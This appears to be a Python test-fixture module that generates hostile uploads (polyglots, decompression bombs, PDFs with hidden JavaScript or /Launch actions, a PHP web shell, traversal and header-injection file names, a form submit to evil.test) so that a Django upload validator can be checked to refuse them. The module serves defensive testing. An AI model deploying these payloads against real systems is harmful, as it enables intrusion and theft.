"""A corpus of hostile uploads, made in code (no binary file is committed).

Each entry is a file a client could send: the name as the client sends it and
bytes made on demand (the oversize one depends on the limit in force). `code`
is the ValidationError code requests_app.documents.validate_upload refuses it
with. NAME_TRICKS are names whose content is a good PDF: the web server's
parser already drops directories and invisible characters from a name, so
over HTTP some of them arrive as a harmless label and are stored under our
own name; handed to the validator as they are, every one is refused.

`multipart()` builds a request body by hand, so a name reaches the server
exactly as a hostile client would send it (Django's test client keeps only
the last path component of a file's name)."""

import base64
import functools
import io
import uuid
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from django.conf import settings

# Good files --------------------------------------------------------------------------


def pdf(*, catalog: bytes = b"", extra: tuple[bytes, ...] = (), comment=b"") -> bytes:
    """A small, well-formed PDF (one page saying hello) with a real xref.
    `catalog` adds entries to the catalog; `extra` adds objects 5, 6, …"""
    objects = (
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        _stream(b"BT /F1 12 Tf 72 770 Td (Hello) Tj ET"),
        *extra,
    )
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + comment)
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (
        dictionary,
        len(data),
        data,
    )


def object_stream(
    objects: bytes,
    *,
    filter_: bytes = b"/FlateDecode",
    number: int = 6,
    compress: bool | None = None,
    more: bytes = b"",
) -> bytes:
    """An object stream (PDF 1.5) holding `objects` as object `number`,
    compressed: what a scanner reading only the raw bytes cannot see.
    `compress` when the filter is named by reference; `more` adds to the
    stream's dictionary."""
    header = b"%d 0 " % number
    data = header + objects
    if compress is None:
        compress = filter_ == b"/FlateDecode"
    packed = zlib.compress(data) if compress else data
    return _stream(
        packed,
        b"/Type /ObjStm /N 1 /First %d /Filter %s %s" % (len(header), filter_, more),
    )


def pdf_with_hidden_objects(
    *, catalog: bytes, hidden: dict[int, bytes], filter_: bytes = b"6 0 R"
) -> bytes:
    """A PDF 1.5 as modern writers make it, found by readers the way they
    find them: pdf()'s page (objects 1-4), object 5 an object stream holding
    `hidden` (numbered from 7) compressed, whose /Filter is `filter_` (by
    default object 6, /FlateDecode), and a cross-reference stream pointing
    into the object stream: what `pdfinfo -js` follows."""
    header, body = b"", b""
    for number, value in hidden.items():
        header += b"%d %d " % (number, len(body))
        body += value + b"\n"
    packed = zlib.compress(header + body)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        4: _stream(b"BT /F1 12 Tf 72 770 Td (Hello) Tj ET"),
        5: _stream(
            packed,
            b"/Type /ObjStm /N %d /First %d /Filter %s"
            % (len(hidden), len(header), filter_),
        ),
        6: b"/FlateDecode",
    }
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, value in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, value)
    xref_number = max(hidden) + 1
    offsets[xref_number] = len(out)
    rows = b"\x00\x00\x00\x00\x00\xff\xff"  # object 0, free
    for number in range(1, xref_number + 1):
        if number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
        elif number in hidden:
            index = list(hidden).index(number)
            rows += b"\x02" + (5).to_bytes(4, "big") + index.to_bytes(2, "big")
        else:
            rows += b"\x00" + bytes(4) + b"\xff\xff"
    out += b"%d 0 obj\n%s\nendobj\n" % (
        xref_number,
        _stream(
            rows,
            b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (xref_number + 1),
        ),
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def png_up(data: bytes, columns: int) -> bytes:
    """`data` under the PNG "Up" predictor (DecodeParms /Predictor 12): each
    row the difference from the row above, so no name is spelt out."""
    data += bytes(-len(data) % columns)
    rows = [data[i : i + columns] for i in range(0, len(data), columns)]
    out, above = bytearray(), bytes(columns)
    for row in rows:
        out += b"\x02" + bytes((a - b) & 0xFF for a, b in zip(row, above, strict=True))
        above = row
    return bytes(out)


def predicted_object_stream(objects: bytes, *, parms: bytes) -> bytes:
    data = b"8 0 " + objects
    packed = zlib.compress(png_up(data, 8))
    return _stream(
        packed,
        b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms " + parms,
    )


def ascii_object_stream(objects: bytes) -> bytes:
    """Flate, then ASCII85 over it: a chain of two filters, both decoded."""
    packed = base64.a85encode(zlib.compress(b"8 0 " + objects)) + b"~>"
    return _stream(
        packed, b"/Type /ObjStm /N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode]"
    )


@functools.cache
def weasyprint_pdf() -> bytes:
    """A page as the portal itself makes its PDFs: WeasyPrint (pydyf writes
    object streams and a compressed cross-reference stream)."""
    from weasyprint import HTML

    return HTML(
        string="<h1>ใบเสร็จรับเงิน</h1><p>Receipt <a href='https://www.pea.co.th/'>"
        "PEA</a></p><img src='data:image/png;base64,"
        + base64.b64encode(picture("PNG")).decode()
        + "'>"
    ).write_pdf()


@functools.cache
def scanned_pdf(mode: str = "RGB") -> bytes:
    """A scanner's PDF: one page that is a picture (DCT for a colour scan,
    CCITT fax for black and white), as Pillow writes it."""
    from PIL import Image

    image = Image.open(io.BytesIO(picture("JPEG", size=(320, 200)))).convert(mode)
    out = io.BytesIO()
    image.save(out, "PDF", resolution=150)
    return out.getvalue()


def picture(kind: str, size=(64, 48), **options) -> bytes:
    from PIL import Image

    image = Image.new("RGB", size, "white")
    for x in range(0, size[0], 4):  # some detail, so the data is not all one run
        image.putpixel((x, x % size[1]), (200, 30, 30))
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        len(data).to_bytes(4, "big")
        + kind
        + data
        + zlib.crc32(kind + data).to_bytes(4, "big")
    )


def png_with_chunk(kind: bytes, data: bytes) -> bytes:
    """A good PNG with one more chunk just before IEND."""
    good = picture("PNG")
    return good[:-12] + png_chunk(kind, data) + good[-12:]


def damaged_png() -> bytes:
    """A good PNG with one byte of its image data changed (its CRC no longer
    matches)."""
    data = bytearray(picture("PNG"))
    data[data.index(b"IDAT") + 4] ^= 0xFF
    return bytes(data)


def jpeg_with_size(width: int, height: int) -> bytes:
    """A good JPEG whose frame header claims another size."""
    data = bytearray(picture("JPEG"))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 7] = height.to_bytes(2, "big")
    data[sof + 7 : sof + 9] = width.to_bytes(2, "big")
    return bytes(data)


def zip_archive(files: dict[str, bytes], comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
        archive.comment = comment
    return out.getvalue()


def zip_bomb() -> bytes:
    """A real 1 KB zip of 1 MB of zeros whose headers declare 4 GB."""
    data = bytearray(zip_archive({"zeros.bin": bytes(1024 * 1024)}))
    huge = (0xFFFFFFF0).to_bytes(4, "little")
    data[22:26] = huge  # local file header: uncompressed size
    central = data.index(b"PK\x01\x02")
    data[central + 24 : central + 28] = huge
    return bytes(data)


def png_bomb() -> bytes:
    """A 200-byte PNG declaring 100 000 × 100 000 pixels (10 gigapixels)."""
    header = (100_000).to_bytes(4, "big") * 2 + bytes([8, 0, 0, 0, 0])
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(bytes(100_001)))
        + png_chunk(b"IEND", b"")
    )


def pdf_inflate_bomb() -> bytes:
    """An object stream of 40 MB of zeros squeezed into about 40 KB."""
    packer = zlib.compressobj(1)
    chunk = bytes(1024 * 1024)
    packed = b"".join(packer.compress(chunk) for _ in range(40)) + packer.flush()
    return pdf(extra=(_stream(packed, b"/Type /ObjStm /N 1 /First 4 /Filter /Fl"),))


def oversize() -> bytes:
    """A good PDF one byte over the limit in force."""
    body = pdf()
    padding = settings.DOCUMENT_MAX_BYTES + 1 - len(body)
    return body.replace(b"%%EOF", b"%" + b"0" * (padding - 1) + b"\n%%EOF")


GOOD_PDF = pdf()
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + bytes(44)
    + b"\x80\x00\x00\x00"
    + b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!\xb8\x01L\xcd!"
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + bytes(64)
)
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(48)
HTML = (
    b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
)
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/api/v1/me/'+document.cookie)</script></svg>"
)
PHP = b"<?php system($_GET['c']); ?>\n"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
DOCX = zip_archive(
    {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
        "word/document.xml": b"<w:document/>",
    }
)
JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


@dataclass(frozen=True)
class Hostile:
    id: str
    name: str
    make: Callable[[], bytes]
    code: str  # validate_upload's ValidationError code
    why: str

    @property
    def content(self) -> bytes:
        return self.make()


def _h(id_, name, content, code, why) -> Hostile:
    make = content if callable(content) else (lambda: content)
    return Hostile(id_, name, make, code, why)


HOSTILE: list[Hostile] = [
    # Wrong content for the name
    _h("gif-named-pdf", "deed.pdf", GIF, "bad_type", "wrong magic for the extension"),
    _h("gif-named-png", "map.png", GIF, "bad_type", "wrong magic for the extension"),
    _h("exe-named-pdf", "deed.pdf", EXE, "bad_type", "Windows program renamed .pdf"),
    _h("elf-named-jpg", "id.jpg", ELF, "bad_type", "Linux program renamed .jpg"),
    _h("ole-doc-named-pdf", "deed.pdf", OLE, "bad_type", "old Office file renamed"),
    _h("html-named-pdf", "deed.pdf", HTML, "bad_type", "HTML page renamed .pdf"),
    _h("svg-named-png", "map.png", SVG, "bad_type", "SVG with <script> as .png"),
    _h("svg-with-script", "map.svg", SVG, "bad_extension", "SVG with <script>"),
    _h("php-named-pdf", "shell.php.pdf", PHP, "bad_type", "PHP script, double ext."),
    _h("zip-bomb", "bomb.zip", zip_bomb, "bad_extension", "zip bomb (4 GB declared)"),
    _h("zip-bomb-named-pdf", "deed.pdf", zip_bomb, "bad_type", "zip bomb as .pdf"),
    _h("docx", "form.docx", DOCX, "bad_extension", "Office document (a zip)"),
    _h("docx-named-pdf", "form.pdf", DOCX, "bad_type", "Office document as .pdf"),
    # Names claiming another kind of file
    _h("double-ext-exe", "deed.pdf.exe", GOOD_PDF, "bad_extension", "x.pdf.exe"),
    _h("double-ext-php", "id.jpg.php", picture("JPEG"), "bad_extension", "x.jpg.php"),
    _h("trailing-dot", "deed.exe.", GOOD_PDF, "bad_extension", "Windows drops the dot"),
    _h("html-ext", "deed.pdf.html", HTML, "bad_extension", "x.pdf.html"),
    # Size
    _h("empty", "deed.pdf", b"", "empty", "empty file"),
    _h("oversize", "deed.pdf", oversize, "too_large", "one byte over the limit"),
    # Broken structure
    _h("pdf-no-eof", "deed.pdf", GOOD_PDF.replace(b"%%EOF", b""), "bad_pdf", "cut"),
    _h("pdf-bad-version", "deed.pdf", b"%PDF-x" + GOOD_PDF[6:], "bad_pdf", "header"),
    _h("jpeg-no-eoi", "id.jpg", picture("JPEG")[:-2], "bad_image", "no EOI marker"),
    _h("jpeg-cut", "id.jpg", picture("JPEG")[:200], "bad_image", "cut in its headers"),
    _h("jpeg-fake", "id.jpg", b"\xff\xd8\xff\xe0" + bytes(64), "bad_image", "SOI only"),
    _h("png-fake", "map.png", b"\x89PNG\r\n\x1a\n" + bytes(64), "bad_image", "no IHDR"),
    _h("png-bad-crc", "map.png", lambda: damaged_png(), "bad_image", "damaged chunk"),
    # Decompression bombs
    _h("png-bomb", "map.png", png_bomb, "too_many_pixels", "10 gigapixels declared"),
    _h(
        "jpeg-bomb",
        "id.jpg",
        lambda: jpeg_with_size(65_000, 65_000),
        "too_many_pixels",
        "4 gigapixels declared",
    ),
    _h("pdf-inflate-bomb", "deed.pdf", pdf_inflate_bomb, "pdf_unreadable", "64 MB"),
    # Active PDF content
    _h(
        "pdf-javascript",
        "deed.pdf",
        pdf(catalog=b"/OpenAction " + JS_ACTION),
        "pdf_active",
        "/OpenAction running /JavaScript",
    ),
    _h(
        "pdf-javascript-hex-escaped",
        "deed.pdf",
        pdf(catalog=b"/OpenAction << /S /J#61va#53cript /JS (app.alert\\(1\\)) >>"),
        "pdf_active",
        "/J#61va#53cript",
    ),
    _h(
        "pdf-javascript-in-object-stream",
        "deed.pdf",
        pdf(catalog=b"/OpenAction 6 0 R", extra=(object_stream(JS_ACTION),)),
        "pdf_active",
        "action compressed in an object stream",
    ),
    _h(
        "pdf-object-stream-unreadable",
        "deed.pdf",
        pdf(extra=(_stream(b"\x00garbage", b"/Type /ObjStm /Filter /FlateDecode"),)),
        "pdf_unreadable",
        "object stream that does not inflate",
    ),
    _h(
        "pdf-object-stream-other-filter",
        "deed.pdf",
        pdf(extra=(object_stream(b"<< >>", filter_=b"/LZWDecode"),)),
        "pdf_unreadable",
        "object stream under a filter we do not read",
    ),
    # Filters named by reference (issue 15): `/Filter 6 0 R`, object 6 being
    # /FlateDecode; readers resolve it, a scan of the raw bytes does not.
    _h(
        "pdf-javascript-object-stream-indirect-filter",
        "deed.pdf",
        pdf_with_hidden_objects(
            catalog=b"/Names 7 0 R /OpenAction 9 0 R",
            hidden={
                7: b"<< /JavaScript 8 0 R >>",
                8: b"<< /Names [(run) 9 0 R] >>",
                9: JS_ACTION,
            },
        ),
        "pdf_active",
        "document JavaScript in an object stream whose /Filter is 6 0 R",
    ),
    _h(
        "pdf-javascript-object-stream-indirect-filter-array",
        "deed.pdf",
        pdf_with_hidden_objects(
            catalog=b"/Names 7 0 R",
            hidden={
                7: b"<< /JavaScript 8 0 R >>",
                8: b"<< /Names [(run) 9 0 R] >>",
                9: JS_ACTION,
            },
            filter_=b"[6 0 R]",
        ),
        "pdf_active",
        "/Filter [6 0 R]",
    ),
    _h(
        "pdf-javascript-filter-inside-another-object-stream",
        "deed.pdf",
        pdf(
            catalog=b"/OpenAction 8 0 R",
            extra=(
                object_stream(JS_ACTION, filter_=b"9 0 R", number=8, compress=True),
                object_stream(b"/FlateDecode", number=9),
            ),
        ),
        "pdf_active",
        "the filter's name itself compressed in a second object stream",
    ),
    _h(
        "pdf-javascript-behind-indirect-predictor",
        "deed.pdf",
        pdf(
            catalog=b"/OpenAction 8 0 R",
            extra=(
                predicted_object_stream(JS_ACTION, parms=b"6 0 R"),
                b"<< /Predictor 12 /Columns 8 >>",
            ),
        ),
        "pdf_active",
        "PNG Up predictor: rows of differences, /DecodeParms by reference",
    ),
    _h(
        "pdf-javascript-ascii85-flate-chain",
        "deed.pdf",
        pdf(catalog=b"/OpenAction 8 0 R", extra=(ascii_object_stream(JS_ACTION),)),
        "pdf_active",
        "/Filter [/ASCII85Decode /FlateDecode]",
    ),
    _h(
        "pdf-filter-refers-to-nothing",
        "deed.pdf",
        pdf(
            catalog=b"/OpenAction 8 0 R",
            extra=(
                object_stream(JS_ACTION, filter_=b"99 0 R", number=8, compress=True),
            ),
        ),
        "pdf_unreadable",
        "/Filter 99 0 R, no object 99",
    ),
    _h(
        "pdf-indirect-filter-not-decoded",
        "deed.pdf",
        pdf(extra=(object_stream(b"<< >>", filter_=b"6 0 R", number=8), b"/LZWDecode")),
        "pdf_unreadable",
        "/Filter 6 0 R naming a filter we do not read",
    ),
    _h(
        "pdf-object-stream-posing-as-image",
        "deed.pdf",
        pdf(
            catalog=b"/OpenAction 8 0 R",
            extra=(
                object_stream(
                    JS_ACTION,
                    filter_=b"/DCTDecode",
                    number=8,
                    compress=True,
                    more=b"/Subtype /Image /Width 8 /Height 8",
                ),
            ),
        ),  # fmt: skip
        "pdf_unreadable",
        "an image-only filter on a stream with /N and /First",
    ),
    _h(
        "pdf-content-stream-unknown-filter",
        "deed.pdf",
        pdf(extra=(_stream(b"x", b"/Filter /MadeUpDecode"),)),
        "pdf_unreadable",
        "a filter no reader knows",
    ),
    _h(
        "pdf-encrypted",
        "deed.pdf",
        pdf(
            extra=(b"<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>",)
        ).replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 5 0 R"),
        "pdf_unreadable",
        "encrypted: its streams cannot be read without the key",
    ),
    _h(
        "pdf-launch",
        "deed.pdf",
        pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "pdf_active",
        "/Launch",
    ),
    _h(
        "pdf-embedded-file",
        "deed.pdf",
        pdf(
            catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
            extra=(
                b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
                _stream(EXE, b"/Type /EmbeddedFile"),
            ),
        ),
        "pdf_active",
        "/EmbeddedFile",
    ),
    _h(
        "pdf-submit-form",
        "deed.pdf",
        pdf(catalog=b"/OpenAction << /S /SubmitForm /F (https://evil.test/) >>"),
        "pdf_active",
        "/SubmitForm",
    ),
    # Polyglots and hidden payloads
    _h(
        "pdf-with-html-head",
        "deed.pdf",
        pdf(comment=b"%<html><script>alert(1)</script></html>\n"),
        "active_content",
        "starts %PDF- but holds <script> in its first KB",
    ),
    _h(
        "pdf-html-polyglot",
        "deed.pdf",
        b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n",
        "active_content",
        "%PDF- header on an HTML page",
    ),
    _h(
        "pdf-zip-polyglot",
        "deed.pdf",
        GOOD_PDF + zip_archive({"run.js": b"WScript.Echo(1)" * 20}, b"\n%%EOF\n"),
        "hidden_content",
        "a zip after the PDF, its comment ending %%EOF",
    ),
    _h(
        "jpeg-zip-polyglot",
        "id.jpg",
        picture("JPEG") + zip_archive({"a.class": EXE}),
        "hidden_content",
        "GIFAR-style JPEG + ZIP",
    ),
    _h(
        "jpeg-rar-polyglot",
        "id.jpg",
        picture("JPEG") + b"Rar!\x1a\x07\x00" + bytes(40),
        "hidden_content",
        "JPEG + RAR",
    ),
    _h(
        "jpeg-php-appended",
        "id.jpg",
        picture("JPEG") + PHP,
        "active_content",
        "PHP after the JPEG's EOI",
    ),
    _h(
        "png-php-in-text-chunk",
        "map.png",
        png_with_chunk(b"tEXt", b"Comment\x00" + PHP),
        "active_content",
        "PHP in a PNG text chunk",
    ),
    _h(
        "png-html-appended",
        "map.png",
        picture("PNG") + HTML,
        "active_content",
        "HTML after the PNG's IEND",
    ),
]


@dataclass(frozen=True)
class NameTrick:
    id: str
    name: str  # as the client sends it
    over_http: str  # the label the server keeps, or a refusal code, or "dropped"


NAME_TRICKS: list[NameTrick] = [
    NameTrick("traversal", "../../etc/passwd.pdf", "passwd.pdf"),
    NameTrick("traversal-windows", "..\\..\\win.ini.pdf", "win.ini.pdf"),
    NameTrick("absolute", "/etc/passwd", "passwd"),
    NameTrick("absolute-windows", "C:\\Windows\\System32\\evil.pdf", "evil.pdf"),
    NameTrick("entity-traversal", "..&#x2f;..&#x2f;x.pdf", "x.pdf"),
    NameTrick("nul", "deed.pdf\x00.exe", "bad_extension"),
    NameTrick("rtl-override", "evil\u202efdp.exe", "bad_extension"),
    NameTrick("entity-newline", "deed.pdf&#10;.exe", "bad_extension"),
    NameTrick("dot-dot", "..", "dropped"),
    NameTrick("very-long", "ก" * 300 + ".pdf", "ก" * 251 + ".pdf"),
    NameTrick("control-in-name", "deed\x1b[31m.pdf", "deed[31m.pdf"),
]

# Names handed straight to the validator, as a caller other than the web
# server's parser could: refused because of what they contain.
BAD_NAMES = [
    "../../etc/passwd.pdf",
    "..\\..\\win.ini.pdf",
    "/etc/passwd.pdf",
    "deed.pdf\x00.exe",
    "evil\u202efdp.pdf",
    "deed.pdf\r\nContent-Type: text/html",
    "deed\x1b[31m.pdf",
    "..",
    "",
]

GOOD: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "pdf": ("deed.pdf", lambda: GOOD_PDF, "application/pdf"),
    "pdf-with-link": (
        "deed.pdf",
        lambda: pdf(
            extra=(
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
                b"/A << /S /URI /URI (https://www.pea.co.th/) >> >>",
            )
        ),
        "application/pdf",
    ),
    "pdf-opens-at-page-1": (
        "deed.pdf",
        lambda: pdf(catalog=b"/OpenAction [3 0 R /Fit]"),
        "application/pdf",
    ),
    "pdf-with-object-stream": (
        "deed.pdf",
        lambda: pdf(extra=(object_stream(b"<< /Type /Font /Subtype /Type1 >>"),)),
        "application/pdf",
    ),
    "pdf-indirect-filter": (
        "deed.pdf",
        lambda: pdf_with_hidden_objects(
            catalog=b"/PageLabels 7 0 R /OpenAction [3 0 R /Fit]",
            hidden={7: b"<< /Nums [0 << /S /D >>] >>"},
        ),
        "application/pdf",
    ),
    "pdf-predictor-and-ascii85": (
        "deed.pdf",
        lambda: pdf(
            extra=(
                predicted_object_stream(
                    b"<< /Type /Font >>", parms=b"<< /Predictor 12 /Columns 8 >>"
                ),
                ascii_object_stream(b"<< /Type /Font >>"),
            )
        ),
        "application/pdf",
    ),
    "pdf-weasyprint": ("receipt.pdf", weasyprint_pdf, "application/pdf"),
    "pdf-scan-colour": ("scan.pdf", scanned_pdf, "application/pdf"),
    "pdf-scan-black-and-white": (
        "scan.pdf",
        lambda: scanned_pdf("1"),
        "application/pdf",
    ),
    "jpeg": ("id.jpg", lambda: picture("JPEG"), "image/jpeg"),
    "jpeg-progressive": (
        "id.jpeg",
        lambda: picture("JPEG", size=(300, 200), progressive=True),
        "image/jpeg",
    ),
    "jpeg-restart-markers": (
        "id.jpg",
        lambda: picture("JPEG", size=(300, 200), restart_marker_blocks=4),
        "image/jpeg",
    ),
    # Phones put a second picture (HDR gain map) or a short video after EOI.
    "jpeg-with-second-picture": (
        "photo.jpg",
        lambda: picture("JPEG") + picture("JPEG", size=(16, 12)),
        "image/jpeg",
    ),
    "jpeg-motion-photo": (
        "photo.jpg",
        lambda: picture("JPEG") + b"\x00\x00\x00\x18ftypmp42" + bytes(64),
        "image/jpeg",
    ),
    "png": ("map.png", lambda: picture("PNG"), "image/png"),
    "png-palette": (
        "map.png",
        lambda: _palette_png(),
        "image/png",
    ),
    "thai-name": ("สำเนาบัตรประชาชน.jpg", lambda: picture("JPEG"), "image/jpeg"),
    "no-extension": ("scan v1.2", lambda: GOOD_PDF, "application/pdf"),
    "php-in-name-only": ("shell.php.pdf", lambda: GOOD_PDF, "application/pdf"),
}


def _palette_png() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("P", (8, 8), 3).save(out, "PNG")
    return out.getvalue()


class HugeUpload(io.RawIOBase):
    """An upload that says it is 10 GB and fails if anyone reads it: the size
    limit must be checked before the content is read."""

    name = "huge.pdf"
    size = 10 * 1024**3

    def readable(self) -> bool:
        return True

    def seek(self, offset, whence=io.SEEK_SET) -> int:
        return 0

    def read(self, size=-1):
        raise AssertionError("the content of an oversize upload was read")


def multipart(fields: dict[str, str], files: dict[str, tuple[str, bytes]]):
    """(body, content type) of a multipart/form-data request whose file names
    are sent byte for byte as given."""
    boundary = uuid.uuid4().hex
    parts = []
    for key, value in fields.items():
        parts.append(
            b'--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n'
            % (boundary.encode(), key.encode(), str(value).encode())
        )
    for key, (name, data) in files.items():
        parts.append(
            b'--%s\r\nContent-Disposition: form-data; name="%s"; filename="%s"\r\n'
            b"Content-Type: application/octet-stream\r\n\r\n%s\r\n"
            % (boundary.encode(), key.encode(), name.encode(), data)
        )
    body = b"".join(parts) + b"--%s--\r\n" % boundary.encode()
    return body, f"multipart/form-data; boundary={boundary}"
